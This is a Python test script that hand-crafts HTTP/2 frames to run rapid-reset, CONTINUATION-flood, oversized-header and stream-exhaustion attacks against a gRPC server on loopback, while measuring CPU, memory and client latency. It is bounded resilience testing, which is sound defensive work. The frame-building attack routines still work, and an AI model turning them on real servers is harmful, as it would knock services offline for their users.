#!/usr/bin/python3
"""Attacks a server of usher below gRPC, and measures what that does to it and to others.

    tests/chaos/http2_attacks.py ADDRESS PID ATTACK [--connections N] [--streams N] [--rate N]
                                 [--mebibytes N] [--settle SECONDS]

ADDRESS  host:port on loopback of a server that somebody started for this (it may need 4 GiB)
PID      of that server; its CPU and memory are read from /proc
ATTACK   resets         HEADERS, DATA and RST_STREAM, --streams of them on each of --connections, at
                        --rate a second and connection (0: as fast as it goes)
         string         headers that do not end: a literal announced as 256 MiB, --mebibytes of it
                        in CONTINUATION frames of 1 KiB
         continuation   the same with headers that are complete, one after the other
         streams        --streams calls on each of --connections whose requests do not end
         watches        as many health watches, which say nothing; then SIGTERM to the server, of
                        which all must hear

Prints one line of JSON: latencies (ms) of a well-behaved client that checks the health twenty
times a second, before and during; the server's CPU seconds during it; its memory (MiB) before,
at most, right after, and --settle seconds later. Bounded in time and count.
Needs python3-grpcio for the well-behaved client, and nothing else that Python does not bring.
"""
import argparse
import ipaddress
import json
import multiprocessing
import os
import select
import signal
import socket
import struct
import threading
import time

import grpc

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# Frame types, flags, settings and errors: RFC 9113, sections 6 and 7.
DATA, HEADERS, RST_STREAM, SETTINGS, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 7, 8, 9
PING = 6
END_STREAM, ACK, END_HEADERS = 1, 1, 4
MAX_CONCURRENT_STREAMS = 3
CANCEL, REFUSED_STREAM = 8, 7
MOST_STREAMS = 200000  # of one run
LONGEST_ATTACK = 60.0  # seconds
CHECKS_PER_SECOND = 20
CHECK = "/grpc.health.v1.Health/Check"
WATCH = "/grpc.health.v1.Health/Watch"
EMPTY_MESSAGE = b"\0\0\0\0\0"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) \
        + payload


def literal(name, value):
    """A header, never indexed, without Huffman (RFC 7541, section 6.2.3); both below 127 bytes."""
    return b"\x10" + bytes([len(name)]) + name + bytes([len(value)]) + value


def headers_of(path):
    pairs = ((":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "localhost"),
             ("content-type", "application/grpc"), ("te", "trailers"))
    return b"".join(literal(name.encode(), value.encode()) for name, value in pairs)


def integer(value, prefix_bits):
    """RFC 7541, section 5.1, with nothing set before the prefix."""
    most = (1 << prefix_bits) - 1
    if value < most:
        return bytes([value])
    encoded, value = [most], value - most
    while value >= 128:
        encoded.append(value % 128 + 128)
        value //= 128
    return bytes(encoded + [value])


class Connection:
    """HTTP/2 by hand: sends what it is told to, and reads along, so that windows stay open."""

    def __init__(self, address):
        self._socket = socket.create_connection(address, timeout=10)
        self._socket.sendall(PREFACE + frame(SETTINGS, 0, 0) +
                             frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", (1 << 31) - 65536)))
        self._socket.setblocking(False)
        self._received = b""
        self._answers = b""  # to go out between two frames of ours
        self.window = 65535  # of the connection, for DATA
        self.most_streams = None
        self.refused = 0
        self.messages = {}  # stream -> bytes of DATA
        self.closed = None  # why

    def send(self, data, until=None):
        """False when the connection is closed, or it took longer."""
        until = until or time.monotonic() + 10
        rest = memoryview(self._answers + data)
        self._answers = b""
        while len(rest) > 0 and self.closed is None and time.monotonic() < until:
            readable, writable, _ = select.select([self._socket], [self._socket], [], 0.1)
            if readable:
                self.read()
            if not writable:
                continue
            try:
                rest = rest[self._socket.send(rest):]
            except BlockingIOError:
                continue
            except OSError as error:
                self.closed = self.closed or error.strerror
        return len(rest) == 0

    def read(self):
        """What is there, without waiting."""
        while True:
            try:
                received = self._socket.recv(1 << 18)
            except BlockingIOError:
                return
            except OSError as error:
                self.closed = self.closed or error.strerror
                return
            if not received:
                self.closed = self.closed or "closed by the server"
                return
            self._received += received
            self._take_frames()

    def _take_frames(self):
        at = 0
        while len(self._received) >= at + 9:
            length = int.from_bytes(self._received[at:at + 3], "big")
            if len(self._received) < at + 9 + length:
                break
            kind, flags = self._received[at + 3], self._received[at + 4]
            stream = int.from_bytes(self._received[at + 5:at + 9], "big")
            self._take(kind, flags, stream, self._received[at + 9:at + 9 + length])
            at += 9 + length
        self._received = self._received[at:]

    def _take(self, kind, flags, stream, payload):
        if kind == SETTINGS and not flags & ACK:
            for i in range(0, len(payload), 6):
                setting, value = struct.unpack(">HI", payload[i:i + 6])
                if setting == MAX_CONCURRENT_STREAMS:
                    self.most_streams = value
            self._answer(frame(SETTINGS, ACK, 0))
        elif kind == PING and not flags & ACK:
            self._answer(frame(PING, ACK, 0, payload))
        elif kind == WINDOW_UPDATE and stream == 0:
            self.window += struct.unpack(">I", payload)[0]
        elif kind == RST_STREAM and struct.unpack(">I", payload)[0] == REFUSED_STREAM:
            self.refused += 1
        elif kind == GOAWAY:
            self.closed = "GOAWAY %d %s" % (struct.unpack(">I", payload[4:8])[0],
                                            payload[8:].decode(errors="replace"))
        elif kind == DATA:
            self.messages[stream] = self.messages.get(stream, b"") + payload

    def _answer(self, data):
        self._answers += data

    def close(self):
        self._socket.close()


class Server:
    """What /proc tells about it; the most memory by looking ten times a second."""

    def __init__(self, pid):
        self.pid = pid
        self.most = 0
        self._stop = threading.Event()
        threading.Thread(target=self._watch, daemon=True).start()

    def _watch(self):
        while not self._stop.wait(0.1):
            try:
                self.most = max(self.most, self.memory())
            except OSError:
                return

    def cpu(self):
        with open(f"/proc/{self.pid}/stat") as stat:
            fields = stat.read().rsplit(")", 1)[1].split()
        return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")

    def memory(self):
        with open(f"/proc/{self.pid}/status") as status:
            for line in status:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1]) / 1024
        raise OSError("it has ended")


def check_for_ever(address, stop, answers):
    """The well-behaved client, in a process of its own. Sends (begin, seconds, whether OK)."""
    channel = grpc.insecure_channel(address)
    check = channel.unary_unary(CHECK)
    while not stop.is_set():
        begin = time.monotonic()
        try:
            check(b"", timeout=10, wait_for_ready=True)
            good = True
        except grpc.RpcError:
            good = False
        took = time.monotonic() - begin
        answers.put((begin, took, good))
        time.sleep(max(0.0, 1 / CHECKS_PER_SECOND - took))
    channel.close()
    answers.put(None)


def summary(answers):
    took = sorted(seconds for _, seconds, _ in answers)
    if not took:
        return None

    def at(share):
        return round(1000 * took[min(len(took) - 1, int(share * len(took)))], 1)
    return {"calls": len(took), "p50": at(0.5), "p99": at(0.99), "max": round(1000 * took[-1], 1),
            "failed": sum(not good for _, _, good in answers)}


def send_resets(connection, arguments):
    """Returns how many streams were reset."""
    path = headers_of("/companyService.CompanyService/companyAvailable")
    begin, sent = time.monotonic(), 0
    batch = min(500, arguments.rate // 20 or 1) if arguments.rate else 500
    while sent < arguments.streams:
        data = b""
        for i in range(sent, min(sent + batch, arguments.streams)):
            data += frame(HEADERS, END_HEADERS, 2 * i + 1, path) \
                + frame(DATA, END_STREAM, 2 * i + 1, EMPTY_MESSAGE) \
                + frame(RST_STREAM, 0, 2 * i + 1, struct.pack(">I", CANCEL))
        until = begin + LONGEST_ATTACK
        connection.window -= len(EMPTY_MESSAGE) * batch
        while connection.window < 0 and connection.closed is None and time.monotonic() < until:
            read_all([connection], 0.01)
        if not connection.send(data, until):
            break
        sent += batch
        if arguments.rate:
            time.sleep(max(0.0, begin + sent / arguments.rate - time.monotonic()))
    return sent


def send_headers_without_end(connection, arguments):
    """Returns the bytes of headers that were sent."""
    if arguments.attack == "string":
        first = headers_of(CHECK) + b"\x10" + integer(1, 7) + b"x" + integer(256 << 20, 7)
        piece = b"a" * 1024
    else:
        first, piece = headers_of(CHECK), literal(b"x" * 100, b"y" * 100) * 5
    connection.send(frame(HEADERS, 0, 1, first))
    more = frame(CONTINUATION, 0, 1, piece) * 16
    until, sent = time.monotonic() + LONGEST_ATTACK, 0
    while sent < arguments.mebibytes << 20 and connection.send(more, until):
        sent += 16 * len(piece)
    return sent


def open_streams(connection, arguments):
    """Returns how many were opened and not refused."""
    watches = arguments.attack == "watches"
    path = headers_of(WATCH if watches else CHECK)
    for i in range(arguments.streams):
        data = frame(HEADERS, END_HEADERS, 2 * i + 1, path)
        if watches:
            data += frame(DATA, END_STREAM, 2 * i + 1, EMPTY_MESSAGE)
        if not connection.send(data):
            break
    return arguments.streams


def on_each(connections, attack, arguments):
    sent = [0] * len(connections)

    def run(i):
        sent[i] = attack(connections[i], arguments)
    threads = [threading.Thread(target=run, args=(i,)) for i in range(len(connections))]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return sum(sent)


def read_all(connections, seconds, enough=lambda: False):
    until = time.monotonic() + seconds
    while time.monotonic() < until and not enough():
        for connection in connections:
            connection.read()
            connection.send(b"")
        time.sleep(0.01)


def watch_in_silence(connections, server, arguments, result):
    wanted = len(connections) * arguments.streams

    def told(times):
        return sum(len(message) >= times * 7 for connection in connections
                   for message in connection.messages.values())
    read_all(connections, 30, lambda: told(1) >= wanted)
    result["watches"] = told(1)
    result["memory_with_watches"] = round(server.memory())
    time.sleep(2)
    before = server.cpu()
    time.sleep(10)
    result["percent_of_a_core_while_silent"] = round(10 * (server.cpu() - before), 2)
    begin = time.monotonic()
    os.kill(server.pid, signal.SIGTERM)
    read_all(connections, 20, lambda: told(2) >= wanted)
    result["heard_of_the_stop"] = told(2)
    result["after_seconds"] = round(time.monotonic() - begin, 2)


ATTACKS = {"resets": send_resets, "string": send_headers_without_end,
           "continuation": send_headers_without_end, "streams": open_streams,
           "watches": open_streams}


def arguments_of():
    parser = argparse.ArgumentParser(description=__doc__,
                                     formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("address")
    parser.add_argument("pid", type=int)
    parser.add_argument("attack", choices=ATTACKS)
    parser.add_argument("--connections", type=int, default=1)
    parser.add_argument("--streams", type=int, default=100)
    parser.add_argument("--rate", type=int, default=0)
    parser.add_argument("--mebibytes", type=int, default=8)
    parser.add_argument("--settle", type=float, default=30)
    arguments = parser.parse_args()
    host, port = arguments.address.rsplit(":", 1)
    if not ipaddress.ip_address(host).is_loopback:
        parser.error("this is for servers on loopback")
    if arguments.connections * arguments.streams > MOST_STREAMS or arguments.mebibytes > 16:
        parser.error("that is more than anybody needs to see it")
    return arguments, (host, int(port))


def main():
    arguments, address = arguments_of()
    server = Server(arguments.pid)
    stop, queue = multiprocessing.Event(), multiprocessing.Queue()
    client = None
    if arguments.attack != "watches":  # nothing shall happen there
        client = multiprocessing.Process(target=check_for_ever,
                                         args=(arguments.address, stop, queue), daemon=True)
        client.start()
        time.sleep(4)
    result = {"attack": arguments.attack, "connections": arguments.connections}
    memory, cpu, begin = server.memory(), server.cpu(), time.monotonic()
    connections = [Connection(address) for _ in range(arguments.connections)]
    read_all(connections, 0.3)
    result["sent"] = on_each(connections, ATTACKS[arguments.attack], arguments)
    result["sent_in"] = round(time.monotonic() - begin, 2)
    if arguments.attack == "watches":
        watch_in_silence(connections, server, arguments, result)
        print(json.dumps(result))
        return
    # Until the server has worked it off, as far as a client can tell.
    read_all(connections, 5)
    result["most_streams_by_settings"] = connections[0].most_streams
    result["refused"] = sum(connection.refused for connection in connections)
    reasons = [connection.closed for connection in connections if connection.closed]
    result["closed"] = {reason: reasons.count(reason) for reason in set(reasons)}
    quiet_again = time.monotonic()
    for connection in connections:
        connection.close()
    after = server.memory()
    result["cpu_seconds"] = round(server.cpu() - cpu, 2)
    stop.set()
    answers = list(iter(lambda: queue.get(timeout=60), None))
    client.join()
    print("attacked", flush=True)
    time.sleep(arguments.settle)
    result["memory"] = {"before": round(memory), "most": round(server.most), "after": round(after),
                        "settled": round(server.memory())}
    # The first calls open the connection.
    result["before"] = summary([call for call in answers[20:] if call[0] + call[1] < begin])
    result["during"] = summary([call for call in answers
                                if call[0] + call[1] >= begin and call[0] < quiet_again])
    print(json.dumps(result))


if __name__ == "__main__":
    main()
